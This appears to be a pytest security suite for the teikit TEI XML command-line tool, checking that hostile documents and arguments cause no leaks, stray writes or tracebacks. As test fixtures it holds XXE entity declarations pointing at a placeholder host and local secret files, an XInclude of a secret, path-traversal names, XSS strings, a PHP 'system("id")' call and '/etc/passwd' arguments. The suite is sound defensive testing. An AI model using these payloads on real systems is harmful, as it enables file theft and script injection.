"""One corpus of hostile documents and arguments for every command: nothing revealed, requested or written elsewhere."""

from __future__ import annotations

from pathlib import Path

import pytest
from click.testing import CliRunner

from helpers.attack import CANARY, DOCUMENT, Attack
from teikit.cli import main
from teikit.cli.transform import TARGETS

#: Names that lead elsewhere, or that an operating system reserves.
NAMES = (
    "../../written", "/tmp/teikit-written", "..\\..\\written", "%2e%2e/%2e%2e/written", "CON", "nul.png", "a:b", "dot.",
    "space ", "a%00b", "x" * 300, "{secret}", "{host}/a.png", "file://{secret}", "//[", "javascript:alert(1)",
)  # fmt: skip
SCRIPT = "&lt;script>alert(1)&lt;/script>"
DOCTYPE = '<!DOCTYPE TEI SYSTEM "{host}/tei.dtd" [<!ENTITY % p SYSTEM "{host}/p.ent"><!ENTITY file SYSTEM "file://{secret}">]>'
BODIES = {
    "names": "<p>{pages}{pointers}</p><figure>{pictures}</figure>",
    "inclusions": '<p><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{secret}" parse="text"/></p>',
    "entity": "<p>&file;</p>",
    "scripts": f'<p rend="{SCRIPT}" n="{SCRIPT}">{SCRIPT}<hi rend="&quot; onload=&quot;alert(1)">x</hi></p>'
    '<p>#read("{secret}") #image("{secret}") #include "{secret}" $sum$ `a` <hi>]#panic()</hi></p>'
    '<p><?php system("id")?><?xml-stylesheet href="{host}/a.xsl"?>Words</p>',
}


def hostile(attack: Attack, body: str) -> Path:
    names = [name.format(secret=attack.secret, host=attack.host) for name in NAMES]
    filled = BODIES[body].format(
        secret=attack.secret,
        host=attack.host,
        pages="".join(f'<pb n="{name}" facs="{name}"/>Words ' for name in names),
        pictures="".join(f'<graphic url="{name}"/><media mimeType="image/png" url="{name}"/>' for name in names),
        pointers="".join(f'<persName ref="{name}">A</persName><ref target="{name}#{name}">b</ref>' for name in names),
    )
    before = DOCTYPE.format(host=attack.host, secret=attack.secret) if body == "entity" else ""
    return attack.write("edition/documents/letter.xml", DOCUMENT.format(before=before, body=filled))


def commands(attack: Attack, document: Path) -> list[tuple[object, ...]]:
    edition, output = attack.edition, attack.edition / "out"
    return [
        ("encode", document, "-o", edition / "again.xml"),
        ("validate", document),
        ("validate", "--engine", "libxml2", "--ids", document),
        *(("transform", document, "--to", target, "-o", output) for target in TARGETS),
        ("build", edition, "--publish-anyway", "--to", "web", "--to", "text", "--to", "markdown"),
        ("build", edition, "--publish-anyway", "--to", "volume"),
        ("registers", "list", "--edition", edition),
        ("registers", "adopt", "--all", "--edition", edition),
        ("registers", "rename", "a", "../../b", "--edition", edition),
        ("schema", "all", document, "-o", output),
    ]


@pytest.mark.parametrize("body", BODIES)
def test_a_hostile_document_harms_no_command(body: str, attack: Attack) -> None:
    document = hostile(attack, body)
    for command in commands(attack, document):
        attack.run(*command)
    for page in attack.edition.rglob("*.html"):
        text = page.read_text(encoding="utf-8")
        assert "<script>alert" not in text
        assert 'onload="alert' not in text
        assert 'href="javascript:' not in text
    assert not Path("/tmp/teikit-written").exists()


#: Arguments that name no usable file.
ARGUMENTS = (
    "none.xml", "folder", "loop", "bytes", "words.txt", "", ".", "x" * 300, "/proc/self/mem", "letter.xml/x",
    "\udcff.xml", "\n::error::.xml", "http://[", "file:///etc/passwd",
)  # fmt: skip
BAD_COMMANDS = (
    ("encode", "{}", "-o", "o.xml"),
    ("encode", "words.txt", "-o", "{}/o.xml"),
    *(("encode", "words.txt", "-o", "o.xml", "--force", option, "{}") for option in (
        "--profile", "--notes", "--registers", "--encoding", "--report", "--loss-report"
    )),
    ("validate", "{}"),
    *(("validate", "letter.xml", option, "{}") for option in ("--schema", "--schematron", "--baseline")),
    ("validate", "letter.xml", "--engine", "libxml2", "--schema", "{}"),
    ("explain", "{}"),
    ("transform", "{}", "--to", "text", "-o", "out"),
    ("transform", "letter.xml", "--to", "text", "-o", "out", "--xslt", "{}"),
    ("transform", "letter.xml", "--to", "web", "-o", "out", "-p", "lang={}"),
    ("build", "{}"),
    ("registers", "list", "--edition", "{}"),
    ("registers", "rename", "{}", "b", "--edition", "."),
    ("profiles", "{}"),
    ("schema", "rng", "{}"),
    ("schema", "rng", "letter.xml", "--source", "{}"),
    ("serve", "{}/none", "--port", "0"),
)  # fmt: skip


@pytest.mark.parametrize("argument", ARGUMENTS)
def test_a_bad_argument_is_an_error_without_a_traceback(
    argument: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "letter.xml").write_text(DOCUMENT.format(before="", body="<p>Words.</p>"))
    (tmp_path / "words.txt").write_text("MEMORANDUM\n\nSome words.\n")
    (tmp_path / "bytes").write_bytes(bytes(range(256)))
    (tmp_path / "folder").mkdir()
    (tmp_path / "loop").symlink_to("loop")
    for command in BAD_COMMANDS:
        result = CliRunner().invoke(main, [part.format(argument) for part in command], input=b"")
        assert result.exception is None or isinstance(result.exception, SystemExit), (command, result.exception)
        assert result.exit_code in (0, 1, 2), command
        assert "::error::" not in {line[:9] for line in result.stderr.splitlines()}
        assert CANARY not in result.output
